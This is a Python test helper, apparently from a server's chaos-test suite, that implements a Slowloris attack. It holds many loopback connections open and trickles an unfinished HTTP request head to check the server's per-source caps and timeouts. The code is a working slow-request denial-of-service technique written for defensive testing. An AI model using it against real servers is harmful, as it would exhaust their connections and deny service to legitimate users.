"""Slowloris for the chaos tests: many connections from one loopback source address, each
sending a request head one byte at a time and never finishing it.

Slowloris(port, n, source).open() connects n sockets from `source` (another loopback address,
127.0.0.3 by default, so that a per-source-address cap can tell the attacker from the normal
clients on 127.0.0.1) and then sends each open socket its next byte every `interval_s` until
close(). Connections the server refuses, answers (a 408, say) or closes are counted, not
reopened: the load stays bounded in count and time."""
import asyncio
import resource

HEAD = (b"POST /v1/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
        b"X-Slow: " + b"s" * 4000 + b"\r\n\r\n")


def raise_fd_limit(at_least):
    """Raises this process's open-file limit to `at_least` (within the hard limit), so that
    it and the servers it starts after this (they inherit it) can hold the attack's sockets;
    returns the new soft limit."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = at_least if hard == resource.RLIM_INFINITY else min(at_least, hard)
    if soft != resource.RLIM_INFINITY and soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
        soft = want
    return soft


class Slowloris:
    def __init__(self, port, n, source="127.0.0.3", interval_s=1.0):
        self.port, self.n, self.source, self.interval_s = port, n, source, interval_s
        self.open_writers = set()
        self.refused = 0   # connects that failed
        self.dropped = 0   # connections the server answered or closed
        self.sent = 0      # bytes of HEAD sent on each open connection
        self._tasks = []

    async def open(self, batch=256):
        """Connects every socket (in batches, so the listen backlog is not the limit) and
        sends each its first byte."""
        async def one():
            try:
                reader, writer = await asyncio.wait_for(asyncio.open_connection(
                    "127.0.0.1", self.port, local_addr=(self.source, 0)), 10)
            except (OSError, asyncio.TimeoutError):
                self.refused += 1
                return
            writer.write(HEAD[:1])
            self.open_writers.add(writer)
            self._tasks.append(asyncio.create_task(self._watch(reader, writer)))

        for start in range(0, self.n, batch):
            await asyncio.gather(*(one() for _ in range(min(batch, self.n - start))))
        self.sent = 1
        self._tasks.append(asyncio.create_task(self._trickle()))
        return self

    async def _watch(self, reader, writer):
        """Any answer or end from the server ends this connection's part in the attack."""
        try:
            await reader.read(1)
        except ConnectionError:
            pass
        if writer in self.open_writers:
            self.open_writers.discard(writer)
            self.dropped += 1
            writer.transport.abort()

    async def _trickle(self):
        while self.sent < len(HEAD) - 1:  # never the last byte
            await asyncio.sleep(self.interval_s)
            byte = HEAD[self.sent:self.sent + 1]
            self.sent += 1
            for w in list(self.open_writers):
                try:
                    w.write(byte)
                except (ConnectionError, RuntimeError):
                    pass  # its watcher counts it

    async def close(self):
        """Ends the attack; returns how many connections the server still held open."""
        held = len(self.open_writers)
        writers, self.open_writers = self.open_writers, set()
        for w in writers:
            w.transport.abort()
        for t in self._tasks:
            t.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)
        return held
